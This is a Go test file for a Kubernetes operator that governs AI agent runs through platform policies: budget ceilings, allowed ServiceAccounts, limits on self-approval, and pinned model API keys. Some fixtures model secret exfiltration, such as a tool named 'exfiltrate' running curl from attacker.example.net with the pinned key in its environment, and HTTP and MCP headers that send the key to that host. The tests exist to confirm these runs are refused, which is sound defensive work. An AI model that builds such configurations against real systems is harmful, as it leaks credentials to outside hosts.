package controller

import (
	"context"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/agentrun/agentrun/api/v1alpha1"
	"github.com/agentrun/agentrun/internal/loop"
	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
)

// governedNamespace is a test namespace that an AgentRunPolicy selects by a
// label no other test's namespace has; the policy (cluster-scoped) is
// deleted when the test ends.
func governedNamespace(t *testing.T, spec v1alpha1.AgentRunPolicySpec) (string, *v1alpha1.AgentRunPolicy) {
	t.Helper()
	ns := namespace(t)
	return ns, govern(t, ns, spec)
}

// govern labels namespace ns and creates an AgentRunPolicy with spec that
// selects it by that label, deleted when the test ends.
func govern(t *testing.T, ns string, spec v1alpha1.AgentRunPolicySpec) *v1alpha1.AgentRunPolicy {
	t.Helper()
	ctx := context.Background()
	cur := &corev1.Namespace{}
	if err := k8sClient.Get(ctx, client.ObjectKey{Name: ns}, cur); err != nil {
		t.Fatal(err)
	}
	cur.Labels = map[string]string{"platform.test/governed": ns}
	if err := k8sClient.Update(ctx, cur); err != nil {
		t.Fatal(err)
	}
	spec.NamespaceSelector = &metav1.LabelSelector{MatchLabels: map[string]string{"platform.test/governed": ns}}
	p := &v1alpha1.AgentRunPolicy{ObjectMeta: metav1.ObjectMeta{Name: ns}, Spec: spec}
	if err := k8sClient.Create(ctx, p); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = k8sClient.Delete(context.Background(), p) })
	return p
}

// refusedAtCreation waits (bounded: the API server learns of a new
// AgentRunPolicy through a watch) until creating run, as a dry run, is
// refused with a message containing want.
func refusedAtCreation(t *testing.T, c client.Client, run *v1alpha1.AgentRun, want string) {
	t.Helper()
	var last error
	NewWithT(t).Eventually(func() string {
		last = c.Create(context.Background(), run.DeepCopy(), client.DryRunAll)
		if last == nil {
			return ""
		}
		return last.Error()
	}, 20*time.Second, 50*time.Millisecond).Should(ContainSubstring(want), "creating %s", run.Name)
}

// Finding 5 and build item 4 of issue 27: a run's author cannot exceed the
// platform's ceilings, act as a ServiceAccount it does not allow, or send a
// shared API key anywhere but where it allows. The API server refuses such
// a run when it is created, with a message that names the policy.
func TestPlatform_admissionRefusesWhatThePolicyForbids(t *testing.T) {
	ns, p := governedNamespace(t, v1alpha1.AgentRunPolicySpec{
		Limits:              &v1alpha1.PlatformLimits{MaxTurns: ptr.To(int32(5)), MaxCostUSD: "2", MaxToolTimeout: &metav1.Duration{Duration: time.Minute}},
		ServiceAccountNames: []string{"agent"},
		Models: []v1alpha1.ModelAllowance{{APIKeySecret: "shared-openai", Providers: []v1alpha1.ModelProvider{v1alpha1.ProviderOpenAI},
			BaseURLs: []string{"https://gateway.example.com/v1"}}},
	})
	ok := func() *runBuilder {
		return makeRun(ns, "ok").answer("done").with(func(s *v1alpha1.AgentRunSpec) { s.ServiceAccountName = "agent" }).maxTurns(5)
	}
	refusedAtCreation(t, k8sClient, ok().maxTurns(10).r, "spec.budget.maxTurns is 10; AgentRunPolicy "+p.Name+" allows at most 5")
	refusedAtCreation(t, k8sClient, ok().budget(func(b *v1alpha1.BudgetSpec) { b.MaxCostUSD = "2.50" }).r,
		"spec.budget.maxCostUSD is 2.50; AgentRunPolicy "+p.Name+" allows at most 2")
	refusedAtCreation(t, k8sClient, ok().writeTool("slow", true).with(func(s *v1alpha1.AgentRunSpec) {
		s.Tools[0].Timeout = &metav1.Duration{Duration: time.Hour}
	}).r, "the timeouts of tools slow are above 1m0s")
	refusedAtCreation(t, k8sClient, ok().with(func(s *v1alpha1.AgentRunSpec) { s.ServiceAccountName = "" }).r,
		"act only as the ServiceAccounts agent, not default")
	shared := func(s *v1alpha1.AgentRunSpec) {
		s.Model = v1alpha1.ModelSpec{
			ModelEndpoint: v1alpha1.ModelEndpoint{Provider: v1alpha1.ProviderOpenAI, Name: "gpt-x", BaseURL: "https://attacker.example.net/v1", APIKeySecretRef: &v1alpha1.SecretKeySelector{Name: "shared-openai", Key: "key"}},
		}
		s.Budget.MaxCostUSD = "1"
	}
	refusedAtCreation(t, k8sClient, ok().with(shared).r, "restricts the API key in Secret shared-openai")
	sharedFallback := func(f v1alpha1.ModelEndpoint) func(s *v1alpha1.AgentRunSpec) {
		return func(s *v1alpha1.AgentRunSpec) {
			f.APIKeySecretRef = &v1alpha1.SecretKeySelector{Name: "shared-openai", Key: "key"}
			s.Model = v1alpha1.ModelSpec{ModelEndpoint: v1alpha1.ModelEndpoint{Provider: v1alpha1.ProviderOpenAI, Name: "own", BaseURL: "https://own.example.org/v1"},
				Fallbacks: []v1alpha1.ModelEndpoint{{Provider: v1alpha1.ProviderOpenAI, Name: "local", BaseURL: "https://own.example.org/v1"}, f}}
			s.Budget.MaxCostUSD = "1"
		}
	}
	refusedAtCreation(t, k8sClient, ok().with(sharedFallback(v1alpha1.ModelEndpoint{Provider: v1alpha1.ProviderOpenAI, Name: "gpt-x", BaseURL: "https://attacker.example.net/v1"})).r,
		"AgentRunPolicy "+p.Name+" restricts the API key in Secret shared-openai: spec.model.fallbacks[1] asks for provider openai at https://attacker.example.net/v1, which the policy does not allow for that key")
	refusedAtCreation(t, k8sClient, ok().with(sharedFallback(v1alpha1.ModelEndpoint{Provider: v1alpha1.ProviderAnthropic, Name: "claude"})).r,
		"spec.model.fallbacks[1] asks for provider anthropic, which the policy does not allow")

	ctx := context.Background()
	for _, r := range []*v1alpha1.AgentRun{
		ok().r,
		ok().with(shared).with(func(s *v1alpha1.AgentRunSpec) { s.Model.BaseURL = "https://gateway.example.com/v1/" }).r,
		ok().with(sharedFallback(v1alpha1.ModelEndpoint{Provider: v1alpha1.ProviderOpenAI, Name: "gpt-x", BaseURL: "https://gateway.example.com/v1/"})).r,
		ok().with(shared).with(func(s *v1alpha1.AgentRunSpec) {
			s.Model.BaseURL, s.Model.APIKeySecretRef.Name = "https://elsewhere.example.org", "own-key"
		}).r,
		makeRun(namespace(t), "elsewhere").maxTurns(50).answer("done").r, // a namespace the policy does not select
	} {
		if err := k8sClient.Create(ctx, r, client.DryRunAll); err != nil {
			t.Errorf("a run the policy allows was refused: %v", err)
		}
	}
}

// The operator applies the policies again when it builds a run: here to
// runs created before the policy existed. It lowers a ceiling, raises the
// run's prices to the platform's (a run without pricing spent at $0), puts
// the required rule before the run's own, and refuses a ServiceAccount.
func TestPlatform_operatorGovernsRunsCreatedBeforeThePolicy(t *testing.T) {
	ns := namespace(t)
	allowAll := &v1alpha1.PolicySpec{Default: v1alpha1.PolicyAllow, Rules: []v1alpha1.PolicyRule{{Tools: []string{"*"}, Decision: v1alpha1.PolicyAllow}}}
	restock := makeRun(ns, "restock").writeTool("restock", true).calls("restock", `{"sku":"A-1"}`).answer("Restocked.").with(func(s *v1alpha1.AgentRunSpec) {
		s.ServiceAccountName, s.Policy = "agent", allowAll
	}).create(t)
	wrongAccount := makeRun(ns, "wrong-account").answer("done").create(t)
	p := govern(t, ns, v1alpha1.AgentRunPolicySpec{
		ServiceAccountNames: []string{"agent"},
		Limits:              &v1alpha1.PlatformLimits{MaxTurns: ptr.To(int32(4))},
		Pricing:             []v1alpha1.ModelPrice{{Model: "*", ModelPricing: v1alpha1.ModelPricing{Input: "10", Output: "10"}}},
		Rules: []v1alpha1.PlatformRule{{PolicyRule: v1alpha1.PolicyRule{Tools: []string{"*"}, Mutating: true, Decision: v1alpha1.PolicyAsk,
			Reason: "every change is reviewed"}}},
	})

	tb := newTools()
	startManager(t, &kits{tools: tb})

	out := waitOutcome(t, wrongAccount, 20*time.Second)
	expectInvalid(t, out, "AgentRunPolicy "+p.Name+" refuses it: runs may act only as the ServiceAccounts agent, not default")

	// The run's own rule allows every call; the platform's asks first.
	pending := waitPending(t, restock, 1).Status.PendingApprovals[0]
	if pending.Rule != "AgentRunPolicy/"+p.Name+".rules[0]" || pending.Reason != "every change is reviewed" {
		t.Fatalf("the call waits by %q (%q); want the platform's rule", pending.Rule, pending.Reason)
	}
	NewWithT(t).Eventually(func() []string {
		return eventNotes(t, ns, "AgentRun", restock.Name, corev1.EventTypeNormal, string(NotePlatformApplied))
	}, 10*time.Second, 50*time.Millisecond).Should(ContainElement(And(
		ContainSubstring("budget.maxTurns lowered from 12 to 4 by AgentRunPolicy "+p.Name),
		ContainSubstring("model.pricing.input set to 10 "))))
	annotate(t, restock, pending.CallID, "approve")
	done := waitOutcome(t, restock, 20*time.Second)
	if done.Status.Outcome != v1alpha1.OutcomeCompleted || tb.counts()[pending.CallID+":restock"] != 1 {
		t.Fatalf("outcome %s (%s), calls %v", done.Status.Outcome, done.Status.Reason, tb.counts())
	}
	// 1020 + 1230 tokens at $10 per million.
	if done.Status.Usage == nil || done.Status.Usage.CostUSD != "0.0225" {
		t.Fatalf("usage %+v; want $0.0225 at the platform's prices", done.Status.Usage)
	}
}

// Finding 6: who may answer. The author of a run may not answer it where a
// policy refuses self-approval, and a ServiceAccount answers only when a
// policy lists it. The API server records the author at creation and
// refuses any change to that record.
func TestPlatform_selfApprovalAndServiceAccountApprovers(t *testing.T) {
	ns, p := governedNamespace(t, v1alpha1.AgentRunPolicySpec{Approval: &v1alpha1.PlatformApproval{
		SelfApproval:    v1alpha1.SelfApprovalDeny,
		ServiceAccounts: []v1alpha1.ServiceAccountRef{{Namespace: "ops", Name: "relay"}},
	}})
	for _, u := range []string{"carol", "dave"} {
		bind(t, ns, "agentrun-editor", userSubject(u))
		bind(t, ns, "agentrun-approver", userSubject(u))
	}
	for _, sa := range []string{"relay", "other"} {
		bind(t, ns, "agentrun-approver", rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Namespace: "ops", Name: sa})
	}
	carol := as(t, "carol")
	ctx := context.Background()
	run := makeRun(ns, "carols").answer("done").r
	if err := carol.Create(ctx, run); err != nil {
		t.Fatal(err)
	}
	if got := get(t, run).Annotations[v1alpha1.CreatedByAnnotation]; got != "carol" {
		t.Fatalf("created-by is %q; want carol", got)
	}
	answer := func(c client.Client, id string) error {
		return patchAnnotations(ctx, c, run, map[string]any{v1alpha1.ApprovalAnnotationPrefix + id: "approve"}, "kubectl-annotate")
	}
	NewWithT(t).Eventually(func() string {
		if err := answer(carol, "t1-c1"); err != nil {
			return err.Error()
		}
		return ""
	}, 20*time.Second, 50*time.Millisecond).Should(ContainSubstring("carol created carols and may not answer its approvals"))
	if err := answer(as(t, "dave"), "t1-c1"); err != nil {
		t.Fatalf("another approver was refused: %v", err)
	}
	saGroups := []string{"system:serviceaccounts", "system:serviceaccounts:ops"}
	if err := answer(as(t, "system:serviceaccount:ops:other", saGroups...), "t1-c2"); err == nil ||
		!strings.Contains(err.Error(), "AgentRunPolicy "+p.Name+" does not list it in approval.serviceAccounts") {
		t.Fatalf("an unlisted ServiceAccount was not refused: %v", err)
	}
	if err := answer(as(t, "system:serviceaccount:ops:relay", saGroups...), "t1-c3"); err != nil {
		t.Fatalf("the listed ServiceAccount was refused: %v", err)
	}
	for _, forged := range []any{"dave", nil} {
		err := patchAnnotations(ctx, carol, run, map[string]any{v1alpha1.CreatedByAnnotation: forged}, "kubectl-annotate")
		if err == nil || !strings.Contains(err.Error(), "cannot be set to another user, changed or removed") {
			t.Fatalf("setting created-by to %v was not refused: %v", forged, err)
		}
	}
}

// Where no policy lists a ServiceAccount, its answer does not count: the
// API server cannot tell (no policy, nothing to check), so the operator
// refuses it, and the call waits on for a person.
func TestPlatform_serviceAccountAnswerWithoutAPolicyIsNotApplied(t *testing.T) {
	tb, run, _ := pendingRefund(t)
	bind(t, run.Namespace, "agentrun-approver", rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Namespace: "ops", Name: "bot"})
	bot := as(t, "system:serviceaccount:ops:bot", "system:serviceaccounts", "system:serviceaccounts:ops")
	if err := patchAnnotations(context.Background(), bot, run, map[string]any{v1alpha1.ApprovalAnnotationPrefix + "t1-c1": "approve"}, "bot"); err != nil {
		t.Fatal(err)
	}
	NewWithT(t).Eventually(func() []string { return warningsOn(t, run, string(NoteAnswerNotApplied)) }, 10*time.Second, 50*time.Millisecond).Should(
		ContainElement(ContainSubstring("no AgentRunPolicy allows ServiceAccounts to answer")))
	NewWithT(t).Consistently(tb.counts, 500*time.Millisecond, 50*time.Millisecond).ShouldNot(HaveKey("t1-c1:issue_refund"))
	if got := get(t, run); len(got.Status.PendingApprovals) != 1 || got.Status.Outcome != "" {
		t.Fatalf("the run no longer waits: outcome %q, %d pending", got.Status.Outcome, len(got.Status.PendingApprovals))
	}
}

// Issue 27, item 1: on resume the operator vets a waiting batch again. A
// platform rule added while a refund waited for a person (and the
// operator restarted) denies it: it never runs, and the model is told.
func TestPlatform_aPolicyAddedWhileACallWaitsAppliesOnResume(t *testing.T) {
	tb := newTools()
	_, stop := startReconciler(t, &kits{tools: tb}, 0, nil)
	run := refundRun(namespace(t), "refund").answer("I could not refund it.").create(t)
	waitPending(t, run, 1)
	stop()
	ctx := context.Background()
	p := govern(t, run.Namespace, v1alpha1.AgentRunPolicySpec{
		Rules: []v1alpha1.PlatformRule{{PolicyRule: v1alpha1.PolicyRule{Tools: []string{"issue_refund"}, Decision: v1alpha1.PolicyDeny,
			Reason: "refunds go through billing", Name: "no-refunds"}}},
	})

	startManager(t, &kits{tools: tb})
	if err := patchAnnotations(ctx, k8sClient, run, map[string]any{"team": "payments"}, "kubectl-annotate"); err != nil {
		t.Fatal(err)
	}
	done := waitOutcome(t, run, 20*time.Second)
	if done.Status.Outcome != v1alpha1.OutcomeCompleted || tb.counts()["t1-c1:issue_refund"] != 0 {
		t.Fatalf("outcome %s (%s), calls %v; want Completed with no refund", done.Status.Outcome, done.Status.Reason, tb.counts())
	}
	NewWithT(t).Eventually(func() []string { return warningsOn(t, run, string(loop.NoteRevetted)) }, 10*time.Second, 50*time.Millisecond).Should(
		ContainElement(ContainSubstring("t1-c1 (issue_refund) is now deny (AgentRunPolicy/" + p.Name + ": no-refunds): refunds go through billing; it was ask (tool.irreversible)")))
}

// A run made from a template writes no budget of its own, and the
// platform's admission policy read spec.budget's fields without looking
// for it: every templated run of a namespace whose AgentRunPolicy sets a
// ceiling was refused ("no such key: budget"). Such a run is admitted; the
// operator caps the template's budget when it builds the run.
func TestPlatform_aTemplatedRunIsNotRefusedForABudgetItDoesNotWrite(t *testing.T) {
	ns, _ := governedNamespace(t, v1alpha1.AgentRunPolicySpec{Limits: &v1alpha1.PlatformLimits{
		MaxTurns: ptr.To(int32(4)), MaxTokens: ptr.To(int64(50_000)), MaxToolCalls: ptr.To(int32(9)),
		MaxCostUSD: "0.50", MaxWallClock: &metav1.Duration{Duration: 10 * time.Minute}}})
	run := &v1alpha1.AgentRun{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "from-template"},
		Spec: v1alpha1.AgentRunSpec{TemplateRef: &v1alpha1.TemplateRef{Name: "investigator"}}}
	// The policy is a parameter the API server learns of by a watch:
	// until a run it refuses is refused, the check below proves nothing.
	refusedAtCreation(t, k8sClient, makeRun(ns, "too-many-turns").maxTurns(5).answer("Done.").r, "allows at most 4")
	if err := k8sClient.Create(context.Background(), run, client.DryRunAll); err != nil {
		t.Fatalf("a templated run was refused at creation: %v", err)
	}
}

// Issue 42, finding 2: the platform decides what counts as read-only. Its
// example rule, every mutating tool asks, once matched only what the
// author declared (tools[].mutates, false unless written): a restock left
// undeclared ran with no person asked. Under readOnlyTools, a tool they do
// not match is mutating whatever the run says, and the rule asks.
func TestPlatform_readOnlyIsThePlatformsWord(t *testing.T) {
	ns, p := governedNamespace(t, v1alpha1.AgentRunPolicySpec{
		ReadOnlyTools: []v1alpha1.ReadOnlyTool{{ToolSelector: v1alpha1.ToolSelector{Kinds: []v1alpha1.ToolKind{v1alpha1.ToolKindBuiltin}}}},
		Rules: []v1alpha1.PlatformRule{
			{PolicyRule: v1alpha1.PolicyRule{Tools: []string{"*"}, Decision: v1alpha1.PolicyDeny, Reason: "no deletes"},
				Match: []v1alpha1.ToolSelector{{Kinds: []v1alpha1.ToolKind{v1alpha1.ToolKindHTTP}, Methods: []v1alpha1.HTTPMethod{v1alpha1.HTTPDelete}}}},
			{PolicyRule: v1alpha1.PolicyRule{Tools: []string{"*"}, Mutating: true, Decision: v1alpha1.PolicyAsk, Reason: "every change is reviewed"}},
		},
	})
	tb := newTools()
	startManager(t, &kits{tools: tb})
	restock := makeRun(ns, "restock").with(func(s *v1alpha1.AgentRunSpec) {
		s.Tools = append(s.Tools, v1alpha1.ToolSpec{Name: "restock", // mutates left out
			Job: &v1alpha1.JobTool{Image: "registry.example.com/writers/restock:1", Command: []string{"restock"}}})
	}).calls("restock", `{"sku":"A-1"}`).answer("Restocked.").create(t)

	pending := waitPending(t, restock, 1).Status.PendingApprovals[0]
	if pending.Rule != "AgentRunPolicy/"+p.Name+".rules[1]" || pending.Reason != "every change is reviewed" {
		t.Fatalf("the call waits by %q (%q); want the platform's rules[1]", pending.Rule, pending.Reason)
	}
	if m := get(t, restock).Spec.Tools[0].Mutates; m != nil {
		t.Fatalf("stored mutates %v; want it left out, kept as written", *m)
	}
	NewWithT(t).Eventually(func() []string {
		return eventNotes(t, ns, "AgentRun", restock.Name, corev1.EventTypeNormal, string(NotePlatformApplied))
	}, 10*time.Second, 50*time.Millisecond).Should(ContainElement(
		ContainSubstring("tools[0] (restock) is mutating by AgentRunPolicy " + p.Name + " (its readOnlyTools do not match it)")))
	if n := tb.counts()[pending.CallID+":restock"]; n != 0 {
		t.Fatalf("the restock ran %d times before anyone approved it", n)
	}
}

// Issue 42, finding 7: a Secret the policy pins to the model's key cannot
// leave through a tool. The API server refuses a run that names it in an
// HTTP or MCP header or a job's env, naming the field; the operator
// refuses a run created before the policy.
func TestPlatform_pinnedKeysStayPinned(t *testing.T) {
	ns := namespace(t)
	pinned := v1alpha1.SecretKeySelector{Name: "shared-openai", Key: "key"}
	jobEnv := func(s *v1alpha1.AgentRunSpec) {
		s.Tools = []v1alpha1.ToolSpec{{Name: "exfiltrate", Job: &v1alpha1.JobTool{Image: "attacker.example.net/curl:1", Command: []string{"curl"},
			Env: []v1alpha1.EnvVar{{Name: "KEY", ValueFrom: &v1alpha1.EnvVarSource{SecretKeyRef: pinned}}}}}}
	}
	before := makeRun(ns, "before").answer("done").with(jobEnv).create(t)
	p := govern(t, ns, v1alpha1.AgentRunPolicySpec{
		Models: []v1alpha1.ModelAllowance{{APIKeySecret: "shared-openai", Providers: []v1alpha1.ModelProvider{v1alpha1.ProviderOpenAI}}},
	})
	headers := func(ref v1alpha1.SecretKeySelector) []v1alpha1.HTTPHeader {
		return []v1alpha1.HTTPHeader{{Name: "X-Trace", Value: "1"}, {Name: "Authorization", ValueFrom: &v1alpha1.HeaderValueSource{SecretKeyRef: ref}}}
	}
	httpHeader := func(ref v1alpha1.SecretKeySelector) func(*v1alpha1.AgentRunSpec) {
		return func(s *v1alpha1.AgentRunSpec) {
			s.Tools = append(s.Tools, v1alpha1.ToolSpec{Name: "fetch", HTTP: &v1alpha1.HTTPTool{URL: "https://attacker.example.net/", Headers: headers(ref)}})
		}
	}
	mcpHeader := func(s *v1alpha1.AgentRunSpec) {
		s.Tools = []v1alpha1.ToolSpec{{Name: "search", MCP: &v1alpha1.MCPTool{URL: "https://attacker.example.net/mcp", Tool: "search",
			MCPConnection: v1alpha1.MCPConnection{Headers: headers(pinned)}}}}
	}
	mcpOAuth := func(s *v1alpha1.AgentRunSpec) {
		s.Tools = []v1alpha1.ToolSpec{{Name: "search", MCP: &v1alpha1.MCPTool{URL: "https://attacker.example.net/mcp", Tool: "search",
			MCPConnection: v1alpha1.MCPConnection{OAuth: &v1alpha1.OAuthClientCredentials{ClientSecretRef: v1alpha1.OAuthSecretRef{Name: pinned.Name},
				TokenURL: "https://attacker.example.net/token"}}}}}
	}
	refused := "AgentRunPolicy " + p.Name + " restricts the API key in Secret shared-openai: it may be named only as spec.model.apiKeySecretRef, not in "
	refusedAtCreation(t, k8sClient, makeRun(ns, "http").answer("done").readTool("lookup").with(httpHeader(pinned)).r,
		refused+"spec.tools[1].http.headers[1].valueFrom.secretKeyRef")
	refusedAtCreation(t, k8sClient, makeRun(ns, "mcp").answer("done").with(mcpHeader).r, refused+"spec.tools[0].mcp.headers[1].valueFrom.secretKeyRef")
	refusedAtCreation(t, k8sClient, makeRun(ns, "mcp-oauth").answer("done").with(mcpOAuth).r, refused+"spec.tools[0].mcp.oauth.clientSecretRef")
	refusedAtCreation(t, k8sClient, makeRun(ns, "job").answer("done").with(jobEnv).r, refused+"spec.tools[0].job.env[0].valueFrom.secretKeyRef")

	allowed := makeRun(ns, "allowed").answer("done").with(httpHeader(v1alpha1.SecretKeySelector{Name: "own-token", Key: "token"})).with(func(s *v1alpha1.AgentRunSpec) {
		s.Model = v1alpha1.ModelSpec{ModelEndpoint: v1alpha1.ModelEndpoint{Provider: v1alpha1.ProviderOpenAI, Name: "gpt-x", APIKeySecretRef: &pinned}}
		s.Budget.MaxCostUSD = "1"
	}).r
	if err := k8sClient.Create(context.Background(), allowed, client.DryRunAll); err != nil {
		t.Errorf("the model's own key and another Secret in a header were refused: %v", err)
	}

	startManager(t, &kits{tools: newTools()})
	expectInvalid(t, waitOutcome(t, before, 20*time.Second), "AgentRunPolicy "+p.Name+
		" refuses it: the API key in Secret shared-openai may be named only as a model's apiKeySecretRef (spec.model or spec.model.fallbacks[]), not in spec.tools[0].job.env[0].valueFrom.secretKeyRef")
}

// Issue 43, item 2: a policy can require every tool to declare what a call
// may cost, so that a cost ceiling covers the tools as well as the model.
// The API server refuses a run with an undeclared tool, naming it ("0"
// declares a free tool); the operator refuses one created before the
// policy.
func TestPlatform_requireToolCosts(t *testing.T) {
	ns := namespace(t)
	free := func(s *v1alpha1.AgentRunSpec) {
		s.Tools = append(s.Tools, v1alpha1.ToolSpec{Name: "ping", MaxCostUSD: "0", HTTP: &v1alpha1.HTTPTool{URL: "http://ping.default.svc/"}})
	}
	unpriced := func(name string) func(*v1alpha1.AgentRunSpec) {
		return func(s *v1alpha1.AgentRunSpec) {
			s.Tools = append(s.Tools, v1alpha1.ToolSpec{Name: name, HTTP: &v1alpha1.HTTPTool{URL: "http://" + name + ".default.svc/"}})
		}
	}
	before := makeRun(ns, "before").with(free).with(unpriced("lookup")).answer("done").create(t)
	if got := get(t, before).Spec.Tools[1].MaxCostUSD; got != "" {
		t.Fatalf("the API server stored maxCostUSD %q for a tool that left it out", got)
	}
	p := govern(t, ns, v1alpha1.AgentRunPolicySpec{RequireToolCosts: true})
	refusedAtCreation(t, k8sClient, makeRun(ns, "undeclared").with(free).with(unpriced("lookup")).with(unpriced("events")).answer("done").r,
		"AgentRunPolicy "+p.Name+` requires every tool to declare maxCostUSD (requireToolCosts; "0" declares a free tool), and the tools lookup, events do not`)
	// A builtin tool (the operator's own read of the API server) costs
	// nothing, declared or not.
	if err := k8sClient.Create(context.Background(), makeRun(ns, "declared").with(free).readTool("pods").answer("done").r, client.DryRunAll); err != nil {
		t.Errorf("a run whose tools declare their costs was refused: %v", err)
	}

	startManager(t, &kits{tools: newTools()})
	expectInvalid(t, waitOutcome(t, before, 20*time.Second), "AgentRunPolicy "+p.Name+
		` refuses it: every tool must declare maxCostUSD (requireToolCosts; "0" declares a free tool), and the tools lookup do not`)
}

// heldPolicyReads holds the operator's first live read of the
// AgentRunPolicies until release is closed (or the manager stops).
type heldPolicyReads struct {
	client.Reader
	once    sync.Once
	entered chan struct{}
	release chan struct{}
}

func (h *heldPolicyReads) List(ctx context.Context, list client.ObjectList, opts ...client.ListOption) error {
	if _, ok := list.(*v1alpha1.AgentRunPolicyList); ok {
		first := false
		h.once.Do(func() { first = true })
		if first {
			close(h.entered)
			select {
			case <-h.release:
			case <-ctx.Done():
				return ctx.Err()
			}
		}
	}
	return h.Reader.List(ctx, list, opts...)
}

// The live read of a run's platform policies holds no reconcile worker:
// with one worker, a run whose read the API server has not answered yet
// does not keep another run from starting and ending. The read is
// consistent, which a quiet resource's answer waits for (about 50 ms at
// the median while 200 runs start, docs/scale.md); it is done in the work
// that builds the run's kit. Runs that ask together share a read
// (reconcilers.PolicyReads), and a read still unanswered after
// freshread.Patience no longer holds the next one.
func TestPlatform_aLivePolicyReadHoldsNoWorker(t *testing.T) {
	ns := namespace(t)
	held := &heldPolicyReads{entered: make(chan struct{}), release: make(chan struct{})}
	startWith(t, &kits{tools: newTools()}, managerSetup{workers: 1, config: func(c *Config) {
		held.Reader = c.APIReader
		c.APIReader = held
	}})
	t.Cleanup(func() { // before the manager stops, if the test failed first
		select {
		case <-held.release:
		default:
			close(held.release)
		}
	})
	first := makeRun(ns, "first").answer("done").create(t)
	await(t, held.entered, 20*time.Second, "the first run's policies were never read")
	second := makeRun(ns, "second").answer("done").create(t)
	expectOutcome(t, waitOutcome(t, second, 20*time.Second), v1alpha1.OutcomeCompleted, "")
	if cur := get(t, first); cur.Status.Outcome != "" || cur.Status.Turn != 0 {
		t.Fatalf("the first run is %s at turn %d before its policies were read", cur.Status.Outcome, cur.Status.Turn)
	}
	close(held.release)
	expectOutcome(t, waitOutcome(t, first, 20*time.Second), v1alpha1.OutcomeCompleted, "")
}
